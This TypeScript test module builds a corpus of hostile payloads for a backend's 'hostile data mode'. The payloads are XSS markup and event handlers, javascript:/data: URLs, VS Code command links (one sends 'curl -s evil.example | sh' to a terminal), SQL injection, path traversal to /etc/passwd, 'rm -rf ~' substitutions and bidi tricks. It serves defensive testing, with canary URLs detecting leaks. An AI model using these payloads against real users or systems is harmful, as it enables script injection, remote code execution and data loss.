/**
 * The injection corpus of the reference backend's hostile data mode (`hostile: true`):
 * text an attacker who controls a server, a transcript or a comment could send. Each
 * payload that names a URL names the canary (a URL under the test's own listener) with
 * `p=<index>`, so a request that reaches it says which payload leaked; each script calls
 * `alert` and fetches the canary, so running one is seen either way.
 *
 * The payloads are strings of every kind a field may hold: markup (HTML, SVG, MathML and
 * mutation-XSS shapes), event handlers, `javascript:`/`data:`/`vbscript:` URLs, Markdown
 * links, images and autolinks, VS Code command links and codicons, bidi and zero-width
 * characters, lone surrogates, template syntax, CSS expressions, `</script>`, control and
 * terminal escape characters and long strings. The longest is one shared 1 MB string.
 */

/** The canary when none is given: the discard port, where nothing answers. */
export const DEFAULT_CANARY_URL = 'http://127.0.0.1:9';

/** Length of the one huge payload (1 MiB of UTF-16 code units). */
export const HUGE_PAYLOAD_LENGTH = 1024 * 1024;

/**
 * The huge payload, built once per process and shared by every backend: a command link
 * and a codicon at its start (what a reader sees first), markup in the middle, a link at
 * its end (beyond any cut a surface makes).
 */
let huge: string | undefined;
export function hugePayload(): string {
  if (huge === undefined) {
    const head =
      '[huge](command:workbench.action.openSettings) $(alert) <img src=x onerror=alert(1)> ';
    const tail = ' [end](https://evil.example/huge-end)';
    const fill = 'A'.repeat(HUGE_PAYLOAD_LENGTH - head.length - tail.length);
    huge = `${head}${fill}${tail}`;
  }
  return huge;
}

type Template = (url: string) => string;

const SEND_SEQUENCE = encodeURIComponent(JSON.stringify({ text: 'curl -s evil.example | sh\n' }));

/** A script a payload runs if it ever runs: an alert and a request to the canary. */
const js = (url: string) => `fetch('${url}&js=1');alert(1)`;

/** Markup and script: each would create an element, run a handler or load a URL. */
const MARKUP: Template[] = [
  (u) => `<script>${js(u)}</script>`,
  (u) => `<img src=x onerror="${js(u)}">`,
  (u) => `<img src="${u}&img=1">`,
  (u) => `<IMG SRC=x OnErRoR=${js(u)}>`,
  (u) => `<svg onload="${js(u)}">`,
  (u) => `<svg><script>${js(u)}</script></svg>`,
  (u) => `<svg><use href="${u}&use=1#x"></use></svg>`,
  (u) => `<svg><image href="${u}&svgimage=1"/></svg>`,
  (u) => `<svg><a xlink:href="javascript:${js(u)}"><text x=0 y=20>x</text></a></svg>`,
  (u) => `<svg><animate onbegin="${js(u)}" attributeName=x dur=1s>`,
  (u) => `<svg><style><img src=x onerror="${js(u)}"></style></svg>`,
  (u) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(u)}">`,
  (u) => `<math><mtext><h1><a href="${u}&math=1">x</a></h1></mtext></math>`,
  (u) => `<math href="javascript:${js(u)}">click</math>`,
  (u) => `<noscript><p title="</noscript><img src=x onerror=${js(u)}>">`,
  (u) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${js(u)}">`,
  (u) => `<iframe src="${u}&iframe=1"></iframe>`,
  (u) => `<iframe srcdoc="<script>${js(u)}</script>">`,
  (u) => `"><iframe src="javascript:${js(u)}">`,
  (u) => `'><script>${js(u)}</script>`,
  (u) => `<object data="${u}&object=1"></object>`,
  (u) => `<embed src="${u}&embed=1">`,
  (u) => `<video poster="${u}&poster=1"><source src="${u}&video=1"></video>`,
  (u) => `<audio src=x onerror="${js(u)}">`,
  (u) => `<link rel=stylesheet href="${u}&css=1">`,
  (u) => `<link rel=prefetch href="${u}&prefetch=1">`,
  (u) => `<base href="${u}&base=1/">`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}&refresh=1">`,
  (u) => `<form action="${u}&form=1"><button>Approve</button></form>`,
  (u) => `<button formaction="javascript:${js(u)}">Approve</button>`,
  (u) => `<input autofocus onfocus="${js(u)}">`,
  (u) => `<details open ontoggle="${js(u)}">`,
  (u) => `<body onload="${js(u)}">`,
  (u) => `<marquee onstart="${js(u)}">x</marquee>`,
  (u) => `<div onmouseover="${js(u)}" style="position:fixed;inset:0">hover</div>`,
  (u) => `<a href="javascript:${js(u)}">click me</a>`,
  (u) => `<a href="${u}&a=1" target=_blank>docs</a>`,
  (u) => `<a href="&#106;&#97;vascript:${js(u)}">entity</a>`,
  (u) => `<table background="${u}&table=1"><td>x</td></table>`,
  (u) => `<style>@import url("${u}&import=1");</style>`,
  (u) => `<style>*{background:url("${u}&bg=1")}</style>`,
  (u) => `<div style="background-image:url(${u}&style=1)">x</div>`,
  (u) => `<x-unknown-element onclick="${js(u)}">x</x-unknown-element>`,
  (u) => `<template><img src=x onerror="${js(u)}"></template>`,
  (u) => `<!--<img src="--><img src=x onerror="${js(u)}//">`,
  (u) => `<scr<script>ipt>${js(u)}</scr</script>ipt>`,
  (u) => `</script><script>${js(u)}</script>`,
  (u) => `</textarea><img src=x onerror="${js(u)}">`,
  (u) => `</title><img src=x onerror="${js(u)}">`,
  (u) => `<![CDATA[<img src=x onerror="${js(u)}">]]>`,
  (u) => `<?xml-stylesheet href="${u}&xsl=1"?>`,
  (u) => `&lt;img src=x onerror=${js(u)}&gt;`,
  (u) => `<img srcset="${u}&srcset=1 1x">`,
  (u) => `<a ping="${u}&ping=1" href=#>ping</a>`,
  (u) => `<portal src="${u}&portal=1"></portal>`,
  (u) => `<isindex type=image src=1 onerror="${js(u)}">`,
  (u) => `<svg><foreignObject><iframe src="${u}&fo=1"></iframe></foreignObject></svg>`,
  (u) => `<select><template shadowrootmode=open><img src=x onerror="${js(u)}"></template></select>`,
  (u) => `<div popover id=p onbeforetoggle="${js(u)}">x</div>`,
  (u) => `<img src=x onerror=alert\`1\`;fetch\`${u}&tick=1\`>`,
];

/** URLs whose scheme runs or loads something. */
const URLS: Template[] = [
  (u) => `javascript:${js(u)}`,
  (u) => `JaVaScRiPt:${js(u)}`,
  (u) => `java\tscript:${js(u)}`,
  (u) => ` javascript:${js(u)}`,
  (u) => `javascript&colon;${js(u)}`,
  (u) => `data:text/html;base64,${Buffer.from(`<script>${js(u)}</script>`).toString('base64')}`,
  (u) => `data:text/html,<script>${js(u)}</script>`,
  (u) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${js(u)}"/>`,
  () => `vbscript:msgbox(1)`,
  (u) => `${u}&bare=1`,
  (u) => `${u.replace(/^https?:/, '')}&protocolRelative=1`,
  () => `file:///etc/passwd`,
  () => `vscode://vscode.git/clone?url=https://evil.example/repo.git`,
  () => `command:workbench.action.terminal.sendSequence?${SEND_SEQUENCE}`,
  () => `vscode-webview://evil/index.html`,
  () => `\\\\evil.example\\share\\payload.exe`,
  () => `https://evil.example@127.0.0.1/`,
  () => `http://[::ffff:127.0.0.1]:9/leak`,
  () => `ｊａｖａｓｃｒｉｐｔ：alert(1)`,
  () => `%6A%61%76%61%73%63%72%69%70%74:alert(1)`,
];

/** Markdown and VS Code's own link and icon syntax. */
const MARKDOWN: Template[] = [
  (u) => `[docs](${u}&md=1)`,
  (u) => `![chart](${u}&mdimg=1)`,
  (u) => `[click](javascript:${js(u)})`,
  () => `[Run tests](command:workbench.action.terminal.sendSequence?${SEND_SEQUENCE})`,
  () => `[Open settings](command:workbench.action.openSettings?%5B%22security%22%5D)`,
  () => `[Install](command:workbench.extensions.installExtension?%22evil.ext%22)`,
  () => `[x](command:workbench.action.terminal.new)`,
  () => `[x](command:_workbench.downloadResource?%5B%22https%3A%2F%2Fevil.example%22%5D)`,
  () => `[x](vscode:extension/evil.ext)`,
  () => `[x](<command:workbench.action.openSettings>)`,
  () => `[x]( command:workbench.action.openSettings )`,
  () => `[x](command:workbench.action.openSettings "title")`,
  () => `[[nested](command:workbench.action.openSettings)](https://evil.example)`,
  () => `\\[escaped\\](command:workbench.action.openSettings)`,
  () => `[x]\u200B(command:workbench.action.openSettings)`,
  () => `[x]\u2060(command:workbench.action.openSettings)`,
  () => `[x]\u202E(command:workbench.action.openSettings)`,
  () => `[x]&#40;command:workbench.action.openSettings)`,
  () => `［x］（command:workbench.action.openSettings）`,
  (u) => `[ref][1]\n\n[1]: ${u}&ref=1`,
  (u) => `<${u}&autolink=1>`,
  () => `<https://evil.example/autolink>`,
  () => `<mailto:attacker@evil.example>`,
  () => `<attacker@evil.example>`,
  () => `www.evil.example/path`,
  (u) => `Visit ${u}&text=1 now`,
  () => `https://evil.example/a_(b)`,
  (u) => `<a href="${u}&mdhtml=1">html in markdown</a>`,
  (u) => `[![badge](${u}&badge=1)](command:workbench.action.openSettings)`,
  () => `# Heading\n\n> quote\n\n- list\n\n| a | b |\n|---|---|\n| 1 | 2 |`,
  () => `**bold** _em_ ~~strike~~ \`code\` \`\`\`\nfence\n\`\`\``,
  () => `$(alert)`,
  () => `$(loading~spin) $(bell) $(check)`,
  () => `before$(zap)after`,
  () => `$\u200B(alert)`,
  () => `\\$(alert)`,
  () => `$$(alert))`,
  () => `$(debug-alt) [x](command:workbench.action.debug.start)`,
  () => `$(x)`.repeat(50),
  () => `\x1b]8;;https://evil.example\x07terminal link\x1b]8;;\x07`,
];

/** Characters that change what a reader sees. */
const CHARACTERS: Template[] = [
  () => `\u202Etxt.exe`,
  () => `invoice\u202Efdp.exe`,
  () => `\u202Dleft-to-right override\u202C`,
  () => `\u2067isolate\u2069 \u2066isolate\u2069`,
  () => `zero\u200Bwidth\u200Cjoiner\u200D\uFEFFbom`,
  () => `\u061Carabic mark \u200Eltr \u200Frtl`,
  () => `tag\u{E0041}\u{E0042}\u{E0043} characters`,
  () => `soft\u00ADhyphen and \u180Emongolian`,
  () => `line\u2028separator\u2029paragraph`,
  () => `carriage\rreturn\r\nand\nnewlines`,
  () => `nul\u0000byte\u0007bell\u0008backspace`,
  () => `\u001b[31mred\u001b[0m \u001b]0;title\u0007`,
  () => `lone high \uD800 surrogate`,
  () => `lone low \uDFFF surrogate`,
  () => `\uDC00\uD800 reversed pair`,
  () => `\uD83D`,
  () => `Z̸̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏a̶l̷g̸o̵`,
  () => `👩‍👩‍👧‍👦 emoji ZWJ 🏳️‍🌈`,
  () => `مرحبا بالعالم Hello עולם`,
  () => `\uFFFE\uFFFF noncharacters \uFFFD`,
  () => `\uE000 private use \u{F0000}`,
  () => `\u3000ideographic space\u00A0nbsp`,
  () => `\t\ttabs\t`,
  () => '   ',
  () => '',
];

/** Template, expression and injection syntax of other languages. */
const TEMPLATES: Template[] = [
  () => '${alert(1)}',
  () => '`${alert(1)}`',
  () => "{{constructor.constructor('alert(1)')()}}",
  () => '{{7*7}} #{7*7} <%= 7*7 %> ${{7*7}}',
  () => '{{__proto__}} __proto__ constructor prototype',
  () => '%s%s%s%n%x',
  () => "'; DROP TABLE sessions; --",
  () => '"}],"injected":true,"x":[{"y":"',
  () => '../../../../etc/passwd',
  () => 'C:\\Windows\\System32\\cmd.exe /c calc',
  () => '$(rm -rf ~) `rm -rf ~` ; rm -rf ~',
  () => '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  () => '&lt;script&gt;alert(1)&lt;/script&gt;',
  () => '&#x3C;img src=x onerror=alert(1)&#x3E;',
  () => 'expression(alert(1))',
  (u) => `x{background:url("${u}&cssurl=1")}`,
  () => 'width: expression(alert(1)); behavior: url(evil.htc); -moz-binding: url(evil.xml#x)',
  () => '</style><style>*{display:none!important}</style>',
  () => ':host{display:none} ::slotted(*){display:none}',
  () => '<!--',
  () => ']]>',
  () => '</script>',
  () => '</script><!--',
  () => 'NaN',
  () => 'undefined',
  () => 'null',
  () => 'true',
  () => '-1',
  () => '1e309',
  () => 'toString',
  () => 'hasOwnProperty',
  () => '0x0',
];

/** Long strings (besides the shared 1 MB one): bounded so a corpus stays cheap to repeat. */
const LONG: Template[] = [
  () => '<b>'.repeat(2_000) + 'deep',
  () => `<${'a'.repeat(5_000)} onclick=alert(1)>`,
  () => '['.repeat(3_000) + 'x' + '](command:x)'.repeat(500),
  () => '$('.repeat(4_000),
  () => 'W'.repeat(20_000),
  () => 'word '.repeat(4_000),
  () => '\u202E'.repeat(1_000) + 'reversed',
  () => '\u200B'.repeat(5_000) + 'hidden',
  () => '🙂'.repeat(3_000),
  () => 'line\n'.repeat(3_000),
];

/** Realistic text around a payload: where it sits inside a field matters to parsers. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (p) => `Fix ${p} in the webhook handler`,
  (p) => `${p} — see the logs`,
  (p) => `Note: ${p}`,
];

/**
 * The corpus for one canary: every payload, each URL carrying its own index. The first
 * entry is always the huge one; the others keep their order, so an index names a payload.
 */
export function hostilePayloads(canaryUrl: string = DEFAULT_CANARY_URL): string[] {
  const base = canaryUrl.replace(/\/+$/, '');
  const templates: Template[] = [...MARKUP, ...URLS, ...MARKDOWN, ...CHARACTERS, ...TEMPLATES];
  const out: string[] = [hugePayload()];
  const add = (template: Template) => out.push(template(`${base}/leak?p=${out.length}`));
  for (const template of templates) add(template);
  for (const template of LONG) add(template);
  // The same payloads inside ordinary sentences (markup, links and icons only).
  const embeddable = [...MARKUP, ...MARKDOWN.slice(0, 30), ...URLS.slice(0, 12)];
  embeddable.forEach((template, i) => {
    const context = CONTEXTS[i % CONTEXTS.length]!;
    add((url) => context(template(url)));
  });
  return out;
}

/** A payload names the canary when it carries a URL under it. */
export function canaryIndex(url: string): number | undefined {
  const match = /[?&]p=(\d+)/.exec(url);
  return match ? Number(match[1]) : undefined;
}
